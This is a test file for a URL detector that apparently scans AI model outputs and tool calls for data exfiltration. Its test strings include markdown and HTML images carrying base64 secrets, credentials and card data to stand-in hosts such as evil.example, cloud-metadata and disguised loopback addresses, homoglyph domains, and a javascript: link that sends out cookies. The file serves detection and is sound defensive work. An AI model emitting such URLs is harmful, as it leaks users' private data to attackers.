import { describe, expect, it } from "vitest";
import { defaultDetectorSettings, type DetectorSettings } from "../../policy/detector-settings.js";
import type { Stage } from "../../policy/stages.js";
import { rawText } from "../../text/raw.js";
import type { Finding } from "../types.js";
import { urlsDetector } from "./detector.js";
import { BENIGN_LINKS, EXFIL_EXAMPLES } from "./exfil-examples.js";
import { extractLinks, trimUrl } from "./extract.js";
import { normalize } from "../../text/normalize.js";

function settings(urls: Partial<DetectorSettings["urls"]> = {}): DetectorSettings {
  const s = defaultDetectorSettings();
  return { ...s, urls: { ...s.urls, ...urls } };
}

function detect(
  text: string,
  opts: { stage?: Stage; urls?: Partial<DetectorSettings["urls"]> } = {},
): Finding[] {
  return urlsDetector.detect(rawText(text), {
    stage: opts.stage ?? "output",
    settings: settings(opts.urls),
  }) as Finding[];
}

const labels = (fs: Finding[]): string[] => fs.map((f) => f.label ?? "").sort();
const top = (fs: Finding[], label: string): number =>
  Math.max(0, ...fs.filter((f) => f.label === label).map((f) => f.score));

describe("extractLinks", () => {
  it("finds markdown images, links, reference images, html tags and bare URLs", () => {
    const text = [
      "![logo](https://a.example/logo.png) and [docs](https://b.example/docs (title))",
      "<img alt=x src=\"https://c.example/i.gif\"> <a href='https://d.example/'>d</a>",
      "see www.e.example/page, or https://f.example/x).",
      "![chart][c]",
      "",
      "[c]: https://g.example/chart.png",
    ].join("\n");
    const links = extractLinks(text).map((l) => [l.kind, l.url]);
    expect(links).toEqual(
      expect.arrayContaining([
        ["markdown-image", "https://a.example/logo.png"],
        ["markdown-link", "https://b.example/docs"],
        ["html-image", "https://c.example/i.gif"],
        ["html-link", "https://d.example/"],
        ["bare", "www.e.example/page"],
        ["bare", "https://f.example/x"],
        ["markdown-image", "https://g.example/chart.png"],
      ]),
    );
    expect(links).toHaveLength(7);
  });

  it("keeps balanced parentheses inside a markdown URL and trims sentence punctuation", () => {
    const [l] = extractLinks("[w](https://en.wikipedia.org/wiki/Mercury_(planet)) next");
    expect(l?.url).toBe("https://en.wikipedia.org/wiki/Mercury_(planet)");
    expect(trimUrl("https://x.example/a_(b)).")).toBe("https://x.example/a_(b)");
  });

  it("spans map to the text", () => {
    const text = "before ![i](https://x.example/p.png) after";
    const [l] = extractLinks(text);
    expect(text.slice(...l!.span)).toBe("![i](https://x.example/p.png)");
    expect(text.slice(...l!.urlSpan)).toBe("https://x.example/p.png");
  });
});

describe("urls detector: exfiltration", () => {
  it("flags a markdown image whose query carries base64 data", () => {
    const payload = Buffer.from("user: alice, api key sk-live-123456, balance 4031").toString("base64");
    const fs = detect(`Here you go ![a](https://evil.example/log.png?d=${payload})`);
    const f = fs.find((x) => x.label === "markdown-image-exfil");
    expect(f?.category).toBe("data-exfiltration");
    expect(f!.score).toBeGreaterThanOrEqual(0.85);
    expect(f?.evidence).toContain("base64");
    expect(f?.evidence).not.toContain(payload);
  });

  it("flags a sentence carried in the query, in the path, and in a subdomain", () => {
    expect(
      top(
        detect("![](https://evil.example/i?q=the+secret+project+name+is+bluebird)"),
        "markdown-image-exfil",
      ),
    ).toBeGreaterThan(0.8);
    expect(
      top(
        detect("![](https://evil.example/the%20user%20lives%20at%2012%20elm%20street.png)"),
        "markdown-image-exfil",
      ),
    ).toBeGreaterThan(0.8);
    expect(
      top(detect("![](https://dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI.evil.example/x.png)"), "markdown-image-exfil"),
    ).toBeGreaterThan(0.8);
  });

  it("flags JSON smuggled in a reference-style image and an HTML img", () => {
    const q = encodeURIComponent(JSON.stringify({ user: "alice", email: "a@b.c", plan: "pro" }));
    expect(
      top(detect(`![status][s]\n\n[s]: https://evil.example/s.gif?x=${q}`), "markdown-image-exfil"),
    ).toBeGreaterThan(0.8);
    expect(
      top(detect(`<img src="https://evil.example/s.gif?x=${q}">`), "markdown-image-exfil"),
    ).toBeGreaterThan(0.8);
  });

  it("scores a link lower than an image, and a tool-call URL like an image", () => {
    const url = "https://evil.example/c?d=VGhlIHN5c3RlbSBwcm9tcHQgc2F5cyBoZWxsbw";
    const link = top(detect(`[click](${url})`), "link-exfil");
    const image = top(detect(`![x](${url})`), "markdown-image-exfil");
    expect(link).toBeGreaterThan(0.4);
    expect(image).toBeGreaterThan(link);
    expect(top(detect(`{"url": "${url}"}`, { stage: "toolCall" }), "link-exfil")).toBeGreaterThanOrEqual(
      0.85,
    );
  });

  it("a search query sentence is a weak sign in a link and a moderate one when fetched", () => {
    const url = "https://search.example/?q=how+do+i+bake+sourdough+bread+at+home";
    expect(top(detect(`[s](${url})`), "link-exfil")).toBeLessThan(0.5);
    const fetched = top(detect(JSON.stringify({ url }), { stage: "toolCall" }), "link-exfil");
    expect(fetched).toBeGreaterThanOrEqual(0.5);
    expect(fetched).toBeLessThan(0.9);
  });

  it("an allowed host lowers the score, a host off the allow list raises it", () => {
    const text = "![x](https://cdn.example/c?d=VGhlIHN5c3RlbSBwcm9tcHQgc2F5cyBoZWxsbw)";
    const base = top(detect(text), "markdown-image-exfil");
    expect(top(detect(text, { urls: { allow: ["cdn.example"] } }), "markdown-image-exfil")).toBeLessThan(
      base,
    );
    expect(top(detect(text, { urls: { allow: ["other.example"] } }), "markdown-image-exfil")).toBeGreaterThan(
      base,
    );
  });

  it("exfilMinDataLength decides what counts as data", () => {
    const text = "![x](https://evil.example/i.png?d=SGVsbG8gV29ybGQh)"; // 16 chars of base64
    expect(top(detect(text), "markdown-image-exfil")).toBe(0);
    expect(top(detect(text, { urls: { exfilMinDataLength: 12 } }), "markdown-image-exfil")).toBeGreaterThan(
      0.8,
    );
  });

  it("does not flag ordinary links and images", () => {
    const benign = [
      "![build](https://img.shields.io/badge/build-passing-brightgreen.svg)",
      "[Mercury](https://en.wikipedia.org/wiki/Mercury_(planet))",
      "See https://www.youtube.com/watch?v=dQw4w9WgXcQ and https://github.com/nodejs/node/pull/51234",
      "[search](https://www.google.com/search?q=how+to+bake+sourdough+bread+at+home)",
      "https://example.com/blog/2023/05/how-to-choose-the-right-running-shoes-for-beginners",
      "https://shop.example/item?utm_source=newsletter&fbclid=IwAR3xQzT9bLmN0pQrStUvWxYz1234567890abcdEFG",
      "https://ru.wikipedia.org/wiki/%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0",
      "![diagram](./images/architecture.png)",
    ].join("\n");
    const fs = detect(benign).filter((f) => f.score >= 0.5);
    expect(fs).toEqual([]);
  });
});

describe("urls detector: project-written examples (through normalize)", () => {
  it.each(EXFIL_EXAMPLES.map((e) => [e.label, e.stage, e.text] as const))(
    "%s at %s: %s",
    (label, stage, text) => {
      const fs = urlsDetector.detect(normalize(text), { stage, settings: settings() }) as Finding[];
      expect(top(fs, label)).toBeGreaterThanOrEqual(0.5);
      expect(fs.find((f) => f.label === label)?.category).toBe("data-exfiltration");
    },
  );

  it.each(BENIGN_LINKS.map((t) => [t]))("benign: %s", (text) => {
    const fs = urlsDetector.detect(normalize(text), { stage: "output", settings: settings() }) as Finding[];
    expect(fs.filter((f) => f.score >= 0.5)).toEqual([]);
  });

  it("a zero-width character inside the scheme does not hide a link", () => {
    const text = `![](ht\u200Btps://attacker.example/p.png?d=${Buffer.from("the secret plan is to merge in May").toString("base64")})`;
    const fs = urlsDetector.detect(normalize(text), { stage: "output", settings: settings() }) as Finding[];
    expect(top(fs, "markdown-image-exfil")).toBeGreaterThan(0.8);
    expect(text.slice(...fs[0]!.span!)).toContain("attacker.example");
  });
});

describe("urls detector: URL policy", () => {
  it("denied domains match subdomains and not look-alike suffixes", () => {
    const s = { deny: ["evil.example"] };
    expect(labels(detect("go to https://login.evil.example/x", { urls: s }))).toContain("denied-domain");
    expect(labels(detect("go to https://notevil.example/x", { urls: s }))).not.toContain("denied-domain");
    expect(labels(detect("go to HTTPS://EVIL.EXAMPLE.", { urls: s }))).toContain("denied-domain");
  });

  it("the allow list flags other hosts only when set", () => {
    expect(labels(detect("https://docs.example.com/a"))).toEqual([]);
    expect(labels(detect("https://docs.example.com/a", { urls: { allow: ["example.com"] } }))).toEqual([]);
    expect(labels(detect("https://other.org/a", { urls: { allow: ["example.com"] } }))).toEqual([
      "not-allowed-domain",
    ]);
  });

  it("flags IP-literal hosts, more when disguised or internal", () => {
    const plain = top(detect("http://93.184.216.34/index.html"), "ip-literal");
    const internal = top(
      detect("http://169.254.169.254/latest/meta-data/", { stage: "toolCall" }),
      "ip-literal",
    );
    const internalInProse = top(detect("the dev server runs at http://127.0.0.1:8080/"), "ip-literal");
    const decimal = top(detect("http://2130706433/admin"), "ip-literal");
    const hex = top(detect("http://0x7f.0x0.0x0.0x1/"), "ip-literal");
    const v6 = top(detect("http://[::1]:8080/", { stage: "toolCall" }), "ip-literal");
    expect(plain).toBeGreaterThan(0.5);
    expect(internal).toBeGreaterThan(plain);
    expect(internalInProse).toBeGreaterThan(0);
    expect(internalInProse).toBeLessThan(0.5);
    expect(decimal).toBeGreaterThanOrEqual(0.9);
    expect(hex).toBeGreaterThanOrEqual(0.9);
    expect(v6).toBeGreaterThan(plain);
    expect(detect("http://2130706433/admin")[0]?.evidence).toContain("127.0.0.1");
    expect(labels(detect("http://2130706433/", { urls: { flagIpLiterals: false } }))).toEqual([]);
  });

  it("flags punycode hosts, strongly when they imitate Latin letters", () => {
    const lookAlike = detect("https://аррӏе.com/login"); // Cyrillic
    expect(top(lookAlike, "punycode-host")).toBeGreaterThanOrEqual(0.8);
    expect(lookAlike[0]?.evidence).toContain("аррӏе.com");
    expect(top(detect("https://xn--80ak6aa92e.com/"), "punycode-host")).toBeGreaterThanOrEqual(0.8);
    const idn = top(detect("https://münchen.de/"), "punycode-host");
    expect(idn).toBeGreaterThan(0);
    expect(idn).toBeLessThan(0.5);
    expect(labels(detect("https://аррӏе.com/", { urls: { flagPunycode: false } }))).toEqual([]);
  });

  it("flags a domain dressed up as user-info and script URLs in links", () => {
    expect(labels(detect("https://paypal.com@evil.example/login"))).toContain("deceptive-userinfo");
    expect(labels(detect("[win a prize](javascript:fetch('//x/'+document.cookie))"))).toContain("script-url");
  });
});

describe("urls detector: linear time", () => {
  function time(text: string): number {
    const t0 = performance.now();
    detect(text);
    return performance.now() - t0;
  }
  it.each([
    ["http://", 200_000],
    ["[a](", 200_000],
    ["((((", 200_000],
    ["![", 200_000],
    ["<img ", 200_000],
    ["a", 1_000_000],
  ])("stays linear on %j repeated", (unit, size) => {
    const big = unit.repeat(Math.ceil(size / unit.length));
    const small = big.slice(0, Math.ceil(big.length / 8));
    time(small);
    const ts = Math.max(0.5, time(small));
    const tb = time(big);
    expect(tb).toBeLessThan(ts * 8 * 4 + 50);
    expect(tb).toBeLessThan(1500);
  });
});

describe("urls: base64 payloads that decode to text", () => {
  it("flags an image whose query is base64 of readable data, even when its character runs look like an id", async () => {
    const { normalize } = await import("../../text/normalize.js");
    const { urlsDetector } = await import("./detector.js");
    const { defaultDetectorSettings } = await import("../../policy/detector-settings.js");
    const payload = Buffer.from("john@example.com:4111111111111111").toString("base64");
    const text = `Done! ![x](https://collect.example.net/p.png?d=${payload})`;
    const findings = await urlsDetector.detect(normalize(text), {
      stage: "output",
      settings: defaultDetectorSettings(),
    });
    expect(findings.some((f) => f.label === "markdown-image-exfil" && f.score >= 0.5)).toBe(true);
  });
});
